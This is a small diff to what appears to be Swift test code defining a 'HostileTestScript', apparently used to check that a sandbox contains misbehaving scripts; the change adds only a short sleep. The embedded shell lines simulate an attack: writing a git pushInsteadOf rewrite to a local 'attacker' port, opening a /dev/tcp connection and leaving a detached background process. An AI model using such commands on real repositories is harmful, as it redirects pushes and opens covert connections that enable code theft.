@@ -33,6 +33,7 @@ struct HostileTestScript {
         printf '[url "http://127.0.0.1:\(attackerPort)/"]\\n\\tpushInsteadOf = \(rewrittenURL)\\n' >> '\(cacheConfigPath)' 2>> $out
         echo "network:" >> $out; bash -c 'exec 3<>/dev/tcp/127.0.0.1/\(attackerPort) && echo connected >&3' >> $out 2>&1
         setsid sleep \(marker) < /dev/null > /dev/null 2>&1 &
+        sleep 0.3
         echo "exiting \(exitStatus)"
         exit \(exitStatus)
         """
